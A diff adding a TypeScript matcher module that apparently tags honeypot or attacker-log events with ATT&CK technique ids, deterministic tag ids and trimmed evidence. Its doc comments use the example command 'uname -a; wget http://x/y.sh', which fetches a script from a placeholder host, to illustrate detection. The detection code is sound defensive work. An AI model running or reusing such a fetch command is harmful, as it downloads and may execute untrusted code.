@@ -1,0 +1,128 @@
+/**
+ * Applies compiled rules to the text of one event and turns every hit into
+ * tags: one per (event, rule, technique), with a deterministic id.
+ */
+import {createHash} from 'node:crypto'
+
+import type {NewTtpTag} from '../../db/schema.js'
+import type {CompiledRule, RuleField} from './rule-schema.js'
+
+/** A rule sees at most this many characters of a field (bounds the work per event on hostile input). */
+export const MAX_TEXT_LENGTH = 4096
+
+/** Evidence is cut to this many characters (plus an ellipsis). */
+export const MAX_EVIDENCE_LENGTH = 200
+
+/** The event a tag is attached to. */
+export interface TaggedEvent {
+  readonly id: number
+  readonly timestamp: string
+  readonly attacker_ip: null | string
+}
+
+/** One rule that matched a text, with the evidence. */
+export interface RuleHit {
+  readonly rule: CompiledRule
+  readonly evidence: string
+}
+
+/**
+ * The id of a tag: the first 32 hex digits of the SHA-256 of
+ * `${logId}:${ruleId}:${technique}`, where `technique` is the most specific
+ * id emitted (the sub-technique when there is one). Stable across runs, so a
+ * replay inserts nothing new.
+ *
+ * @example
+ * ```ts
+ * tagId(42, 'discovery.system-info', 'T1082') // 32 hex digits, always the same
+ * ```
+ */
+export function tagId(logId: number, ruleId: string, technique: string): string {
+  return createHash('sha256').update(`${logId}:${ruleId}:${technique}`).digest('hex').slice(0, 32)
+}
+
+/** Matches events against a rule set. Stateless after construction; share one per worker. */
+export class Matcher {
+  readonly #byField = new Map<RuleField, CompiledRule[]>()
+
+  /**
+   * @example
+   * ```ts
+   * const matcher = new Matcher((await loadRules()).rules)
+   * matcher.tags(row, {command: 'uname -a; wget http://x/y.sh'})
+   * ```
+   */
+  constructor(rules: readonly CompiledRule[]) {
+    for (const rule of rules) {
+      let list = this.#byField.get(rule.field)
+      if (list === undefined) this.#byField.set(rule.field, (list = []))
+      list.push(rule)
+    }
+  }
+
+  /** How many rules are active. */
+  get size(): number {
+    let size = 0
+    for (const list of this.#byField.values()) size += list.length
+    return size
+  }
+
+  /** The rules for `field` that match `text`, in rule order, with evidence. */
+  hits(field: RuleField, text: string): RuleHit[] {
+    const rules = this.#byField.get(field)
+    if (rules === undefined || text === '') return []
+    const capped = text.length > MAX_TEXT_LENGTH ? text.slice(0, MAX_TEXT_LENGTH) : text
+    const hits: RuleHit[] = []
+    for (const rule of rules) {
+      const match = rule.regex.exec(capped)
+      if (match !== null) hits.push({evidence: evidence(capped, match.index, match.index + match[0].length), rule})
+    }
+
+    return hits
+  }
+
+  /** The tags for one event, given the values of the fields rules look at (absent = not applicable). */
+  tags(event: TaggedEvent, fields: Partial<Record<RuleField, null | string>>): NewTtpTag[] {
+    const tags: NewTtpTag[] = []
+    for (const [field, text] of Object.entries(fields) as [RuleField, null | string | undefined][]) {
+      if (!text) continue
+      for (const {evidence, rule} of this.hits(field, text)) {
+        for (const emit of rule.emits) {
+          tags.push({
+            attacker_ip: event.attacker_ip,
+            confidence: emit.confidence ?? rule.confidence,
+            evidence,
+            id: tagId(event.id, rule.id, emit.subTechnique ?? emit.technique),
+            log_id: event.id,
+            rule_id: rule.id,
+            rule_version: rule.version,
+            sub_technique_id: emit.subTechnique,
+            tactic: emit.tactic,
+            technique_id: emit.technique,
+            timestamp: event.timestamp,
+          })
+        }
+      }
+    }
+
+    return tags
+  }
+}
+
+const SEPARATOR = /[\n;&|]/
+
+/**
+ * The matched text without the separator that anchored it, extended to the
+ * end of the simple command it is in (`wget` becomes `wget http://x/y.sh`),
+ * and cut to {@link MAX_EVIDENCE_LENGTH}.
+ */
+export function evidence(text: string, start: number, end: number): string {
+  let from = start
+  while (from < end && /[\s;&|(`{]/.test(text[from])) from++
+  if (text.startsWith('$(', from)) from += 2
+  let to = Math.max(end, from)
+  const limit = Math.min(text.length, from + MAX_EVIDENCE_LENGTH + 1)
+  while (to < limit && !SEPARATOR.test(text[to])) to++
+  const found = text.slice(from, to).trim()
+  return found.length > MAX_EVIDENCE_LENGTH ? `${found.slice(0, MAX_EVIDENCE_LENGTH)}…` : found
+}
